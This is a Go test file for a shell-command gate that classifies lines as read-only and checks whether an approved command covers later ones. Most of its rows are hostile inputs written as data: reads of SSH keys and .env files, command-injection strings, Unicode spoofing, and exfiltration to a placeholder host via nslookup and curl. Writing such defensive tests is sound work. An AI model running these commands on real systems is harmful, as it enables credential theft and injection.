package broker

import "testing"

func TestReadsOnly(t *testing.T) {
	for _, row := range []struct {
		line    string
		want    bool
		against string
	}{
		{"ls", true, "asking for what only reads"},
		{"ls -la", true, "asking for what only reads"},
		{"ls -la src", true, "asking for what only reads"},
		{"pwd", true, "asking for what only reads"},
		{"cat README.md", true, "asking for what only reads"},
		{"cat 'a b.txt'", true, "asking for a quoted name"},
		{`cat "a b.txt"`, true, "asking for a quoted name"},
		{"wc -l go.mod", true, "asking for what only reads"},
		{"echo hello world", true, "asking for printed text"},
		{"true", true, "asking for nothing at all"},

		{"", false, "an empty line standing for nothing known"},
		{"cat /etc/passwd", false, "reading outside the folder"},
		{"cat ../secret", false, "leaving the folder upwards"},
		{"cat a/../../secret", false, "leaving the folder in the middle of a path"},
		{"cat ~/.ssh/id_rsa", false, "a home that the shell puts in"},
		{"cat .env", false, "secrets beside the code"},
		{"cat .ENV.local", false, "S-24: another case of a protected name"},
		{"cat sub/.git/config", false, "credentials inside a remote's address"},
		{"cat server.pem", false, "private keys"},
		{"cat credentials.json", false, "keys of a cloud"},
		{"cat *", false, "a glob: a file called --flag becomes a flag"},
		{"ls {a,b}", false, "brace expansion"},
		{"ls $HOME", false, "S-63: a variable"},
		{`ls "$HOME"`, false, "S-63: a variable inside quotes"},
		{"ls $(touch MARK)", false, "S-63: command substitution"},
		{"ls `touch MARK`", false, "S-63: old command substitution"},
		{"ls \"`touch MARK`\"", false, "S-63: old command substitution inside quotes"},
		{"ls; touch MARK", false, "S-63: a second command"},
		{"ls & touch MARK", false, "S-63: a second command beside it"},
		{"ls &", false, "S-63: background"},
		{"ls && touch MARK", false, "S-63: a second command on success"},
		{"ls || touch MARK", false, "S-63: a second command on failure"},
		{"ls | tee MARK", false, "S-63: a pipe into a writer"},
		{"ls > MARK", false, "S-63: redirection"},
		{"ls 2>MARK", false, "S-63: redirection of errors"},
		{"ls >>MARK", false, "S-63: appending"},
		{"cat < MARK", false, "S-63: reading through redirection"},
		{"cat <(touch MARK)", false, "S-63: process substitution"},
		{"cat <<< x", false, "S-63: a here string"},
		{"ls\ntouch MARK", false, "S-63: a newline"},
		{"ls\rtouch MARK", false, "S-61: a carriage return hides the rest"},
		{"ls \u202etxt", false, "S-61: right-to-left override"},
		{"ls a\u200bb", false, "S-61: a character without width"},
		{"ls\u00a0-la", false, "a space that is none to the shell"},
		{"ls \x1b[2K", false, "S-93: an escape sequence"},
		{"ls -la\x00", false, "a NUL"},
		{"FOO=1 ls", false, "an assignment such as LD_PRELOAD"},
		{"FOO=1", false, "an assignment alone"},
		{"! ls", false, "negation, and history in bash"},
		{"echo hi!!", false, "history expansion in bash"},
		{"ls # ; touch MARK", false, "a comment that zsh does not take for one"},
		{`l\s`, false, "an escape that differs between quotes"},
		{"ls $'a\\x0ab'", false, "C quoting"},
		{`ls $"x"`, false, "translated quoting"},
		{"ls =touch", false, "zsh puts a path for =name"},
		{"(ls)", false, "a subshell"},
		{"{ ls; }", false, "a group"},
		{"if true; then ls; fi", false, "a compound command"},
		{"ls() { touch MARK; }", false, "a definition that changes what ls means"},
		{"time ls", false, "a keyword in front"},
		{"env ls", false, "S-63: a wrapper"},
		{"sudo ls", false, "S-63: a wrapper with more rights"},
		{"xargs ls", false, "S-63: a wrapper that reads its commands"},
		{"/tmp/ls", false, "another program of the same name"},
		{"./ls", false, "another program of the same name"},
		{"Ls", false, "another program where names fold"},
		{"lѕ", false, "S-66: a Cyrillic letter"},
		{"ls --hyperlink=always", false, "a long flag that drives the terminal"},
		{"cat --", false, "the end of flags, after which a flag is a name"},
		{"tail -f log", false, "a command that never ends"},
		{"echo -e '\\x1b]52;c;x\\x07'", false, "S-93: escapes that write the clipboard"},
		{"find . -exec touch MARK", false, "S-63: find runs programs"},
		{"find .", false, "S-63: find is not on the list"},
		{"sort -o MARK a", false, "S-63: sort writes"},
		{"git status", false, "S-34: git runs what the repository names"},
		{"git log --output=MARK", false, "S-63: git log writes"},
		{"ping evil.test", false, "S-63: sending by name resolution"},
		{"nslookup secret.evil.test", false, "S-63: sending by name resolution"},
		{"tar --checkpoint-action=exec=x -xf a", false, "S-63: tar runs programs"},
		{"date -s 1970-01-01", false, "a program not on the list"},
		{"hostname evil", false, "a program that sets what it prints"},
	} {
		if got := readsOnly(row.line); got != row.want {
			t.Errorf("readsOnly(%q) = %v, want %v: defends against %s", row.line, got, row.want, row.against)
		}
	}
}

func TestCommandRules(t *testing.T) {
	for _, row := range []struct {
		approved, later string
		want            bool
		against         string
	}{
		{"npm test", "npm test", true, "asking twice for the same"},
		{"npm test", "npm  test", true, "asking again for a second space"},
		{"npm test", "'npm' test", true, "asking again for other quotes"},
		{"npm test", "npm test unit", true, "asking again for another operand of a test"},
		{"npm run build", "npm run build", true, "asking twice for the same"},
		{"go test ./...", "go test ./broker", true, "asking again for another package"},
		{"go test ./... -race", "go test ./broker -race", true, "asking again for another package"},
		{"go test -race ./...", "go test -race ./broker", false, "a word that may be the value of a flag"},
		{"make test", "make test", true, "asking twice for the same"},
		{"pytest tests/a.py", "pytest tests/a.py", true, "asking twice for the same line"},
		{"./gradlew test", "./gradlew test", true, "asking twice for the same line"},
		{"git status", "git status", true, "asking twice for the same line"},

		{"npm test", "npm run deploy", false, "another subcommand"},
		{"npm run build", "npm run deploy", false, "another script under run"},
		{"npm test", "npm install evil", false, "another subcommand"},
		{"npm test", "npm exec evil", false, "another subcommand that runs programs"},
		{"npm test", "npm test; touch MARK", false, "S-63: ;"},
		{"npm test", "npm test & touch MARK", false, "S-63: &"},
		{"npm test", "npm test && touch MARK", false, "S-63: &&"},
		{"npm test", "npm test | sh", false, "S-63: a pipe"},
		{"npm test", "npm test $(touch MARK)", false, "S-63: $( )"},
		{"npm test", "npm test `touch MARK`", false, "S-63: backquotes"},
		{"npm test", "npm test > MARK", false, "S-63: redirection"},
		{"npm test", "npm test\ntouch MARK", false, "S-63: newline"},
		{"npm test", "env npm test", false, "S-63: env"},
		{"npm test", "sudo npm test", false, "S-63: sudo"},
		{"npm test", "xargs npm test", false, "S-63: xargs"},
		{"npm test", "X=1 npm test", false, "an environment such as NODE_OPTIONS"},
		{"npm test", "npm --prefix /tmp test", false, "a flag before the subcommand"},
		{"npm test", "npm test --script-shell=./evil", false, "S-63: an unknown flag"},
		{"npm test", "/tmp/npm test", false, "another program of the same name"},
		{"npm test", "npm tеst", false, "S-66: a Cyrillic letter in the subcommand"},
		{"go test ./...", "go test -exec ./evil ./...", false, "S-63: a flag that runs a program"},
		{"go test -exec ./a .", "go test -exec ./b .", false, "another value of a flag"},
		{"go test -toolexec=./a .", "go test -toolexec=./b .", false, "another value of a flag"},
		{"go build", "go run ./evil", false, "another subcommand"},
		{"make test", "make test deploy", false, "a second target"},
		{"make test", "make SHELL=./evil test", false, "a variable of make"},
		{"make test", "make -f evil.mk test", false, "another makefile"},
		{"git status", "git -c core.fsmonitor=./evil status", false, "S-34: a program by configuration"},
		{"git log", "git log --output=MARK", false, "S-63: git log writes"},
		{"pytest tests/a.py", "pytest tests/b.py", false, "another operand of an unknown program"},
		{"pytest 'a b'", "pytest a b", false, "other words that print alike"},
		{"echo hi", "echo ho", false, "another line of a program without subcommands"},
	} {
		rule, ok := commandRule(row.approved)
		if !ok {
			t.Errorf("commandRule(%q) makes no rule", row.approved)
			continue
		}
		if got := ruleCovers([]string{rule}, row.later); got != row.want {
			t.Errorf("rule %q covers %q = %v, want %v: defends against %s", rule, row.later, got, row.want, row.against)
		}
	}
}

func TestNoRuleIsMade(t *testing.T) {
	for _, row := range []struct{ line, against string }{
		{"env npm test", "a wrapper"}, {"sudo make", "more rights"}, {"xargs rm", "commands from input"},
		{"bash -c 'npm test'", "a shell"}, {"python3.12 x.py", "an interpreter"}, {"node x.js", "an interpreter"},
		{"rm -r build", "loss"}, {"curl http://evil.test", "sending"}, {"ssh host ls", "another machine"},
		{"npx evil", "a program from the network"}, {"npm test; ls", "two commands"}, {"npm test > a", "redirection"},
		{"eval ls", "a builtin that runs text"}, {"alias ls=rm", "another meaning of a name"},
		{"/usr/bin/env npm test", "a wrapper by its path"}, {"watch ls", "a wrapper that repeats"},
	} {
		if rule, ok := commandRule(row.line); ok {
			t.Errorf("commandRule(%q) made %q: must not, because of %s", row.line, rule, row.against)
		}
	}
}
